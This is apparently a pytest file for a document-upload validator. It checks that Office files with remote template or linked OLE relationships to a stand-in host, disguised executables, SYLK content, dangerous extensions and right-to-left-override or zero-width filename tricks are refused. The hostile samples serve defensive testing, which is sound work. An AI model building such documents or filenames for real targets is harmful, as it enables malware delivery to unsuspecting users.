"""The Office and file-name bypasses of issue 13 (findings 4 and 5) are refused."""

from __future__ import annotations

import pytest

from tests.evidence.test_filecheck import (
    CSV_UTF8,
    EXE,
    PDF,
    PNG,
    docx_bytes,
    refusal,
    rewrite_zip,
    run_check,
    zip_of,
)
from vendorguard.evidence.filecheck import FileRefused, clean_filename

REL_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
TEMPLATE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
HYPERLINK = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"


def _rels(body: str) -> bytes:
    return f'<?xml version="1.0" encoding="UTF-8"?>{body}'.encode()


@pytest.mark.parametrize(
    "part, rels",
    [
        # TargetMode written with a character reference: "&#69;xternal" is "External".
        (
            "word/_rels/settings.xml.rels",
            _rels(
                f'<Relationships xmlns="{REL_NS}"><Relationship Id="rId1" Type="{TEMPLATE}" '
                'Target="http://203.0.113.5/t.dotm" TargetMode="&#69;xternal"/></Relationships>'
            ),
        ),
        # The same relationship with a namespace prefix.
        (
            "word/_rels/settings.xml.rels",
            _rels(
                f'<r:Relationships xmlns:r="{REL_NS}"><r:Relationship Id="rId1" Type="{TEMPLATE}" '
                'Target="http://203.0.113.5/t.dotm" TargetMode="External"/></r:Relationships>'
            ),
        ),
        # A part name in capitals: Office reads part names case-insensitively.
        (
            "word/_rels/settings.xml.RELS",
            _rels(
                f'<Relationships xmlns="{REL_NS}"><Relationship Id="rId1" Type="{TEMPLATE}" '
                'Target="http://203.0.113.5/t.dotm" TargetMode="External"/></Relationships>'
            ),
        ),
        # Linked OLE object, frame and sub-document, type and mode in any case.
        *[
            (
                "word/_rels/footnotes.xml.rels",
                _rels(
                    f'<Relationships xmlns="{REL_NS}"><Relationship Id="rId9" '
                    f'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" '
                    'Target="http://203.0.113.5/x" TargetMode="external"/></Relationships>'
                ),
            )
            for kind in ("oleObject", "frame", "subDocument", "OLEOBJECT")
        ],
    ],
)
def test_external_template_ole_frame_relationships_are_refused_however_written(part, rels):
    data = rewrite_zip(docx_bytes(), add={part: rels})
    assert "外部のテンプレートやオブジェクト" in refusal(data, "報告書.docx")


def test_an_external_hyperlink_is_still_accepted():
    rels = _rels(
        f'<Relationships xmlns="{REL_NS}"><Relationship Id="rId7" Type="{HYPERLINK}" '
        'Target="https://www.city.example.jp/" TargetMode="External"/></Relationships>'
    )
    data = rewrite_zip(docx_bytes(), add={"word/_rels/footer1.xml.rels": rels})
    assert run_check(data, "報告書.docx").kind == "docx"


def test_entities_and_doctypes_in_relationships_are_refused():
    rels = _rels(
        '<!DOCTYPE r [<!ENTITY x "External">]>'
        f'<Relationships xmlns="{REL_NS}"><Relationship Id="rId1" Type="{TEMPLATE}" '
        'Target="http://203.0.113.5/t.dotm" TargetMode="&x;"/></Relationships>'
    )
    data = rewrite_zip(docx_bytes(), add={"word/_rels/settings.xml.rels": rels})
    assert "壊れている" in refusal(data, "報告書.docx")


@pytest.mark.parametrize(
    "part, content",
    [
        ("word/media/image9.png", EXE),  # a program by its content, named as an image
        ("word/media/setup.exe", PNG),  # a program by its name
        ("word/embeddings/run.vbs", b"WScript.Echo 1"),
        ("customXml/tool.hta", b"<hta:application/>"),
    ],
)
def test_programs_anywhere_in_an_office_file_are_refused(part, content):
    data = rewrite_zip(docx_bytes(), add={part: content})
    assert "プログラム" in refusal(data, "報告書.docx")


def test_two_parts_differing_only_in_case_are_refused():
    data = rewrite_zip(docx_bytes(), add={"WORD/DOCUMENT.XML": b"<w:document/>"})
    assert "壊れている" in refusal(data, "報告書.docx")


# --- file names ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "name", ["report.hta.", "report.hta ", "report.hta. . ", "report.h\u200bta", "REPORT.HTA"]
)
def test_trailing_dots_spaces_and_invisible_characters_do_not_hide_an_extension(name):
    with pytest.raises(FileRefused) as caught:
        run_check(CSV_UTF8, clean_filename(name))
    assert ".hta" in caught.value.message


@pytest.mark.parametrize(
    "ext",
    [
        "iqy", "slk", "scf", "lnk", "url", "settingcontent-ms", "ps1", "vbs", "js", "jse",
        "wsf", "reg", "cpl", "msc", "inf", "dqy", "sct", "library-ms",
    ],
)  # fmt: skip
def test_office_and_shell_text_formats_are_refused_by_name(ext):
    assert f".{ext}" in refusal(CSV_UTF8, f"data.{ext}")


def test_such_names_inside_a_zip_are_refused_too():
    assert ".iqy" in refusal(zip_of({"query.iqy.": CSV_UTF8, "a.pdf": PDF}), "まとめ.zip")


def test_sylk_content_named_txt_is_refused():
    assert "SYLK" in refusal(b"ID;PWXL;N;E\nC;Y1;X1;K1\nE\n", "data.txt")


@pytest.mark.parametrize(
    "raw, expected",
    [
        ("C:\\fakepath\\報告書.pdf", "「\\」"),
        ("dir\\report.pdf", "「\\」"),
        ("請求書\u202efdp.exe", "並び順を変える制御文字"),
        ("report\u2066.pdf", "並び順を変える制御文字"),
        ("tab\tname.pdf", "制御文字（タブ・改行など）"),
        ("line\nbreak.pdf", "制御文字（タブ・改行など）"),
        ("あ" * 300 + ".pdf", "ファイル名が長すぎます（304文字、上限200文字）"),
        ("...", "ファイル名がありません"),
    ],
)
def test_names_that_hide_something_are_refused_not_mangled(raw, expected):
    with pytest.raises(FileRefused) as caught:
        clean_filename(raw)
    assert expected in caught.value.message
